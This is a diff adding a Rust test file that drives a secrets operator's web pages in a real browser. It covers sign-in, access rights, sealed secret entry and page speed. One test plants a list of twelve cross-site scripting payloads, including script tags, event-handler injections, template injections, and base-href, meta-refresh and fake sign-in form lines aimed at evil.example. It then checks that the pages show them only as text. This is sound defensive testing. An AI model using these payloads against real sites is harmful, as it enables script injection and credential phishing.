@@ -1,0 +1,216 @@
+//! The web pages, in a real browser before a real API server: who gets in, what everybody
+//! sees, and what nobody can make them do.
+
+use futures::future::join_all;
+use serde_json::{Value, json};
+
+use crate::account::{Account, function_with, secret, secret_with};
+use crate::harness::{Web, journey};
+use crate::operator::write_kubeconfig;
+use crate::web_ground::{Ground, REQUEST, SECRET, furnish};
+
+#[tokio::test]
+async fn people_get_in_by_provider_token_and_link_and_out_again() {
+    let ground = Ground::shared().await;
+    let account = Account::new(ground.operator, "web-in").await;
+    furnish(&account).await;
+    ground.may("anna", "edit", &account);
+    let input = json!({
+        "servers": ground.servers(), "origin": ground.web.origin, "account": account.namespace,
+        "ways": [ground.person("anna"), { "token": ground.token(&account) }],
+        "wrong": "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJub2JvZHkifQ.c2lnbmVk",
+    });
+
+    let told = journey("sign-in", &input).await;
+
+    let robot = format!("system:serviceaccount:{}:person", account.namespace);
+    assert_eq!(told.result, json!(["oidc:anna", robot]));
+    let kubeconfig = ground.folder.join("person.kubeconfig");
+    write_kubeconfig(account.cluster, &account.namespace, "person", &kubeconfig);
+    let (local, link) = Web::local(&kubeconfig, &["-n", &account.namespace], &ground.folder).await;
+    let input = json!({
+        "servers": [local.server()], "origin": local.origin, "account": account.namespace,
+        "ways": [{ "link": link }],
+    });
+    let told = journey("sign-in", &input).await;
+    assert_eq!(told.result, json!([robot]));
+    let token = link.split_once("token=").expect("a link with a secret").1;
+    let said = local.said();
+    assert_eq!(said.matches(token).count(), 1, "told to the person, and to no log: {said}");
+}
+
+#[tokio::test]
+async fn every_page_is_for_everybody_in_both_languages_and_both_schemes() {
+    let ground = Ground::shared().await;
+    let account = Account::new(ground.operator, "web-pages").await;
+    furnish(&account).await;
+    ground.may("anna", "edit", &account);
+    let input = json!({
+        "servers": ground.servers(), "origin": ground.web.origin, "signIn": ground.person("anna"),
+        "account": account.namespace, "secret": SECRET, "request": REQUEST,
+        "sameTitles": ["secret"],
+    });
+
+    let told = journey("pages", &input).await;
+
+    assert_eq!(told.result["pages"], 12);
+    assert!(told.requests > 50, "{}", told.requests);
+}
+
+#[tokio::test]
+async fn whatever_somebody_writes_is_shown_as_text_and_never_runs() {
+    let ground = Ground::shared().await;
+    let account = Account::new(ground.operator, "web-hostile").await;
+    ground.may("anna", "edit", &account);
+    let marks = write_hostile(&account).await;
+    let namespace = &account.namespace;
+    let asked: Vec<_> = HOSTILE.iter().map(|text| percent(text)).collect();
+    let mut paths: Vec<_> = asked
+        .iter()
+        .flat_map(|text| {
+            [
+                format!("/accounts/{namespace}?q={text}&environment={text}&sort={text}"),
+                format!("/accounts/{namespace}/new?name={text}&environment={text}"),
+                format!("/accounts/{namespace}/audit?secret={text}&actor={text}&since={text}"),
+                format!("/accounts/{namespace}?done={text}"),
+            ]
+        })
+        .collect();
+    paths.push(format!("/accounts/{namespace}/secrets/plain-token"));
+    let input = json!({
+        "servers": ground.servers(), "origin": ground.web.origin, "signIn": ground.person("anna"),
+        "accounts": [namespace], "secret": "hostile-0", "request": "asked-0", "paths": paths,
+        "marks": marks,
+    });
+
+    let told = journey("hostile", &input).await;
+
+    assert_eq!(told.result["seen"], marks.len());
+}
+
+#[tokio::test]
+async fn who_may_only_read_can_only_read_and_a_stranger_learns_nothing() {
+    let ground = Ground::shared().await;
+    let account = Account::new(ground.operator, "web-rights").await;
+    furnish(&account).await;
+    ground.may("rita", "view", &account);
+    let other = Account::new(ground.operator, "web-other").await;
+    other.put(&secret("OTHER_TOKEN", "of another account")).await;
+    ground.may("olle", "edit", &other);
+    let sealed = account.sealed("FORGED_TOKEN", "forged");
+    let before = account.kubectl(&["get", "ksec", "-o", "yaml"], &json!(null)).success();
+    let input = json!({
+        "servers": ground.servers(), "origin": ground.web.origin,
+        "account": account.namespace, "secret": SECRET, "request": REQUEST,
+        "reader": ground.person("rita"), "stranger": ground.person("olle"),
+        "sealed": sealed["spec"]["sealed"],
+        "untold": ["OPENAI_API_KEY", "TWILIO", "checkout", "anna"],
+    });
+
+    journey("reader", &input).await;
+
+    let after = account.kubectl(&["get", "ksec", "-o", "yaml"], &json!(null)).success();
+    assert_eq!(before, after, "nothing was written");
+}
+
+#[tokio::test]
+async fn a_secret_is_added_with_the_keyboard_alone_and_its_value_leaves_the_browser_sealed() {
+    let ground = Ground::shared().await;
+    let account = Account::new(ground.operator, "web-keys").await;
+    furnish(&account).await;
+    ground.may("anna", "edit", &account);
+    let value = "k7f3a91c0e5b\"\\%<8d2f6a4b";
+    let input = json!({
+        "servers": ground.servers(), "origin": ground.web.origin, "signIn": ground.person("anna"),
+        "account": account.namespace, "name": "KEYBOARD_TOKEN", "value": value,
+        "canaries": [value],
+    });
+
+    journey("keys", &input).await;
+
+    let added = account.published("keyboard-token").await;
+    let status = added.status.expect("a status");
+    assert_eq!(status.updated_by.as_deref(), Some("oidc:anna"));
+    assert_eq!(status.via.map(|via| via.to_string()).as_deref(), Some("web"));
+    account.gets("mailer", &[("KEYBOARD_TOKEN", value)]).await;
+    assert!(!ground.web.said().contains(value), "its log is clean");
+}
+
+#[tokio::test]
+async fn a_first_page_is_light_and_a_list_of_256_is_instant() {
+    let ground = Ground::shared().await;
+    let account = Account::new(ground.operator, "web-few").await;
+    furnish(&account).await;
+    let full = Account::new(ground.operator, "web-full").await;
+    let many: Vec<_> = (0..256).map(|n| secret(&format!("TOKEN_{n}"), "one of many")).collect();
+    let list = json!({ "apiVersion": "v1", "kind": "List", "items": many });
+    full.apply(&list);
+    for (name, account) in [("anna", &account), ("anna", &full)] {
+        ground.may(name, "edit", account);
+    }
+    full.published("token-255").await;
+    let input = json!({
+        "servers": ground.servers(), "origin": ground.web.origin, "signIn": ground.person("anna"),
+        "account": account.namespace, "full": full.namespace,
+    });
+
+    let told = journey("speed", &input).await;
+
+    println!("web: {}", told.result);
+}
+
+/// Markup, in every way in which a page might take it for its own. Each has a mark that is to
+/// be seen as text.
+const HOSTILE: [&str; 12] = [
+    "<script>window.pwned=1;alert(1)</script>",
+    "<img src=x onerror=\"window.pwned=1;alert(1)\">",
+    "\"><svg onload=alert(1)>",
+    "' autofocus onfocus=alert(1) x='",
+    "</title></textarea></style></script><script>alert(1)</script>",
+    "javascript:alert(1)",
+    "{{ constructor.constructor('alert(1)')() }} ${alert(1)}",
+    "<iframe srcdoc=\"<script>parent.pwned=1</script>\"></iframe>",
+    "<base href=//evil.example/><link rel=stylesheet href=//evil.example/x>",
+    "<meta http-equiv=refresh content=\"0;url=//evil.example/\">",
+    "&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;",
+    "<form action=//evil.example><button>Sign in again</button>",
+];
+
+/// Writes it wherever a text of somebody's is kept. Gives the marks.
+async fn write_hostile(account: &Account<'_>) -> Vec<String> {
+    let mut marks = Vec::new();
+    let mut marked = |place: &str, number: usize, text: &str| {
+        let mark = format!("mark-{place}-{number}.");
+        let text = format!("{text} {mark}");
+        marks.push(mark);
+        text
+    };
+    let mut writes: Vec<(Value, String)> = Vec::new();
+    for (number, text) in HOSTILE.iter().enumerate() {
+        let user = marked("user", number, text);
+        let mut object = secret_with(json!({
+            "envVar": format!("HOSTILE_{number}"), "value": "some value",
+            "description": marked("description", number, text),
+        }));
+        object["metadata"]["annotations"] = json!({ "note": text });
+        writes.push((object, user));
+        let asker = marked("asker", number, text);
+        let object = secret_with(json!({ "envVar": format!("ASKED_{number}"), "request": {
+            "purpose": marked("purpose", number, text), "obtainFrom": text, "requestedBy": text,
+        }}));
+        writes.push((object, asker));
+    }
+    for (object, user) in &writes {
+        let args = ["apply", "-f", "-", "--as", user, "--as-group", "system:masters"];
+        account.kubectl(&args, object).success();
+    }
+    account.put(&secret("PLAIN_TOKEN", "plain value")).await;
+    account.create(&function_with("hostile", &[("requires", HOSTILE[0])])).await;
+    let names: Vec<_> = (0..HOSTILE.len()).map(|number| format!("hostile-{number}")).collect();
+    join_all(names.iter().map(|name| account.published(name))).await;
+    marks
+}
+
+fn percent(text: &str) -> String {
+    text.bytes().map(|byte| format!("%{byte:02X}")).collect()
+}
